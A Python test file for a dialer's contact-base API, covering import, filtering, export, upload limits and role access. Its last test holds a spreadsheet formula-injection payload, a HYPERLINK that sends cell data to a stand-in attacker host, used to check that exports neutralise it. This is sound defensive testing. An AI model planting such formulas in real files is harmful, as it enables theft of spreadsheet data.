"""Contact bases through the API: upload, the report, listing with filters, export, and who may."""

from __future__ import annotations

import csv
import io

from dialer.auth.models import Role

BASE = (
    "Телефон;ФИО;Компания;Тариф\n"
    "8 (495) 150-22-22;Иванов Иван;ООО Ромашка;Стандарт\n"
    "+7 912 345-67-89;Петрова Анна;;Премиум\n"
    "495-150-22-22;Дубль Ивана;;\n"
    "нет телефона;Без Номера;;\n"
).encode("cp1251")


def upload(content: bytes, filename: str = "base.csv") -> dict:
    return {"files": {"file": (filename, content, "text/csv")}}


async def test_an_uploaded_base_is_imported_and_reported(client, admin, two_clients):
    campaign_id = two_clients[0].campaign_id
    response = await client.post(f"/campaigns/{campaign_id}/contacts/import", headers=admin, **upload(BASE))
    assert response.status_code == 200, response.text
    report = response.json()
    assert (report["rows_read"], report["imported"], report["duplicates"], report["rejected"]) == (4, 2, 1, 1)
    assert report["status"] == "done"
    rejected = [p for p in report["problems"] if p["row"] == 5]
    assert rejected and rejected[0]["column"] == "Телефон"

    page = (await client.get(f"/campaigns/{campaign_id}/contacts", headers=admin)).json()
    assert page["total"] == 2
    first = page["items"][0]
    assert (first["phone"], first["name"], first["company"]) == ("+74951502222", "Иванов Иван", "ООО Ромашка")
    assert first["data"] == {"Тариф": "Стандарт"}
    assert first["status"] == "new" and first["timezone"]


async def test_contacts_are_filtered_and_paged(client, admin, two_clients):
    campaign_id = two_clients[0].campaign_id
    await client.post(f"/campaigns/{campaign_id}/contacts/import", headers=admin, **upload(BASE))
    path = f"/campaigns/{campaign_id}/contacts"
    assert (await client.get(f"{path}?status=new&min_attempts=0", headers=admin)).json()["total"] == 2
    assert (await client.get(f"{path}?status=done", headers=admin)).json()["total"] == 0
    assert (await client.get(f"{path}?min_attempts=1", headers=admin)).json()["total"] == 0
    assert (await client.get(f"{path}?on_dnc=true", headers=admin)).json()["total"] == 0
    page = (await client.get(f"{path}?limit=1&offset=1", headers=admin)).json()
    assert [c["phone"] for c in page["items"]] == ["+79123456789"]
    response = await client.get(f"{path}?status=sleeping", headers=admin)
    assert response.status_code == 422
    assert response.json()["detail"][0]["loc"] == ["query", "status", 0]


async def test_contacts_export_as_csv(client, admin, two_clients):
    campaign_id = two_clients[0].campaign_id
    await client.post(f"/campaigns/{campaign_id}/contacts/import", headers=admin, **upload(BASE))
    response = await client.get(f"/campaigns/{campaign_id}/contacts.csv", headers=admin)
    assert response.status_code == 200
    assert response.headers["content-type"].startswith("text/csv")
    assert "attachment" in response.headers["content-disposition"]
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    phones = {row[rows[0].index("phone")] for row in rows[1:]}
    assert phones == {"'+74951502222", "'+79123456789"}  # marked as text for spreadsheets


async def test_numbers_on_do_not_call_are_loaded_but_marked(client, admin, two_clients):
    world = two_clients[0]
    response = await client.post(
        "/dnc",
        json={"phone": "+7 912 345 67 89", "reason": "asked", "client_id": world.client_id},
        headers=admin,
    )
    assert response.status_code == 201
    report = (
        await client.post(f"/campaigns/{world.campaign_id}/contacts/import", headers=admin, **upload(BASE))
    ).json()
    assert report["on_dnc"] == 1
    marked = (await client.get(f"/campaigns/{world.campaign_id}/contacts?on_dnc=true", headers=admin)).json()
    assert [c["phone"] for c in marked["items"]] == ["+79123456789"]


async def test_a_file_over_the_limit_is_refused_before_it_is_read(app, client, admin, two_clients):
    app.state.settings = app.state.settings.model_copy(update={"import_max_bytes": 1000})
    campaign_id = two_clients[0].campaign_id
    big = BASE + b"8 (495) 000-00-00;X;;\n" * 5000
    response = await client.post(f"/campaigns/{campaign_id}/contacts/import", headers=admin, **upload(big))
    assert response.status_code == 413
    assert response.json() == {
        "detail": "the file is larger than the 1,000-byte limit (DIALER_IMPORT_MAX_BYTES)"
    }

    chunks_sent = 0

    async def chunked_body():  # no Content-Length: refused while streaming, not after
        nonlocal chunks_sent
        boundary = b"--b0undary"
        yield boundary + b'\r\nContent-Disposition: form-data; name="file"; filename="big.csv"\r\n\r\n'
        for _ in range(1000):
            chunks_sent += 1
            yield b"8 (495) 000-00-00;X;;\n" * 10

    response = await client.post(
        f"/campaigns/{campaign_id}/contacts/import",
        headers=admin | {"Content-Type": "multipart/form-data; boundary=b0undary"},
        content=chunked_body(),
    )
    assert response.status_code == 413
    assert chunks_sent < 1000, "the body was read to its end before it was refused"
    assert (await client.get(f"/campaigns/{campaign_id}/contacts", headers=admin)).json()["total"] == 0


async def test_an_unreadable_file_is_refused_with_the_reason(client, admin, two_clients):
    campaign_id = two_clients[0].campaign_id
    png = b"\x89PNG\r\n\x1a\n" + b"\x00" * 100
    response = await client.post(
        f"/campaigns/{campaign_id}/contacts/import", headers=admin, **upload(png, "photo.png")
    )
    assert response.status_code == 422
    assert response.json() == {"detail": "photo.png is not a table: upload CSV or XLSX"}


async def test_an_upload_must_be_a_multipart_form_with_a_file(client, admin, two_clients):
    path = f"/campaigns/{two_clients[0].campaign_id}/contacts/import"
    response = await client.post(path, headers=admin, content=BASE)
    assert response.status_code == 415
    response = await client.post(path, headers=admin, data={"other": "x"}, files={"notfile": ("a.csv", b"x")})
    assert response.status_code == 422
    assert response.json() == {"detail": "no file in the form field 'file'"}


async def test_a_controller_reads_its_contacts_only_and_loads_none(client, admin, login, two_clients):
    mine, theirs = two_clients
    await client.post(f"/campaigns/{mine.campaign_id}/contacts/import", headers=admin, **upload(BASE))
    controller = await login(Role.CONTROLLER, client_id=mine.client_id)
    assert (await client.get(f"/campaigns/{mine.campaign_id}/contacts", headers=controller)).json()[
        "total"
    ] == 2
    response = await client.get(f"/campaigns/{theirs.campaign_id}/contacts", headers=controller)
    assert response.status_code == 404
    assert response.json() == {"detail": f"campaign {theirs.campaign_id} not found"}
    assert (
        await client.get(f"/campaigns/{theirs.campaign_id}/contacts.csv", headers=controller)
    ).status_code == 404
    response = await client.post(
        f"/campaigns/{mine.campaign_id}/contacts/import", headers=controller, **upload(BASE)
    )
    assert response.status_code == 403


async def test_qa_and_operators_do_not_read_contact_bases(client, login, two_clients):
    for role in (Role.QA, Role.OPERATOR):
        headers = await login(role)
        response = await client.get(f"/campaigns/{two_clients[0].campaign_id}/contacts", headers=headers)
        assert response.status_code == 403, role


async def test_the_upload_takes_a_column_map_and_a_sheet_as_the_cli_does(client, admin, two_clients):
    import openpyxl

    campaign_id = two_clients[0].campaign_id
    workbook = openpyxl.Workbook()
    workbook.active.title = "Инструкция"
    workbook.active.append(["Звоните вежливо"])
    sheet = workbook.create_sheet("Клиенты")
    sheet.append(["Куда звонить", "Второй", "Клиент"])
    sheet.append(["8 (495) 150-22-22 доб. 12", "8 916 123-45-67", "Иванов"])
    buffer = io.BytesIO()
    workbook.save(buffer)
    path = f"/campaigns/{campaign_id}/contacts/import"
    files = {"files": {"file": ("b.xlsx", buffer.getvalue(), "application/octet-stream")}}

    refused = await client.post(path, headers=admin, **files)
    assert refused.status_code == 422
    assert refused.json()["detail"].startswith("sheet 'Инструкция': no phone column")

    params = [
        ("map", "phone=Куда звонить"),
        ("map", "phone=Второй"),
        ("map", "name=Клиент"),
        ("sheet", "Клиенты"),
    ]
    response = await client.post(path, headers=admin, params=params, **files)
    assert response.status_code == 200, response.text
    assert (response.json()["imported"], response.json()["sheet"]) == (1, "Клиенты")
    (contact,) = (await client.get(f"/campaigns/{campaign_id}/contacts", headers=admin)).json()["items"]
    assert (contact["phone"], contact["extension"], contact["extra_phones"], contact["name"]) == (
        "+74951502222",
        "12",
        ["+79161234567"],
        "Иванов",
    )

    bad = await client.post(path, headers=admin, params={"map": "mobile=Куда звонить"}, **files)
    assert bad.status_code == 422 and "unknown field(s) in the column map: mobile" in bad.json()["detail"]
    no_pair = await client.post(path, headers=admin, params={"map": "phone"}, **files)
    assert no_pair.status_code == 422 and "FIELD=COLUMN" in no_pair.json()["detail"]


async def test_the_contacts_export_keeps_formula_like_text_as_text(client, admin, two_clients):
    campaign_id = two_clients[0].campaign_id
    base = (
        "Телефон;ФИО;Компания;Комментарий\n"
        '+7 912 345-67-89;=HYPERLINK("https://evil.example/?d="&A1;@SUM(A1);-1+2\n'
    ).encode()
    response = await client.post(f"/campaigns/{campaign_id}/contacts/import", headers=admin, **upload(base))
    assert response.json()["imported"] == 1, response.text
    response = await client.get(f"/campaigns/{campaign_id}/contacts.csv", headers=admin)
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))
    row = dict(zip(rows[0], rows[1], strict=True))
    assert row["name"] == '\'=HYPERLINK("https://evil.example/?d="&A1'
    assert row["company"] == "'@SUM(A1)"
    assert row["Комментарий"] == "'-1+2"
    assert row["phone"] == "'+79123456789"
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for line in rows for cell in line)
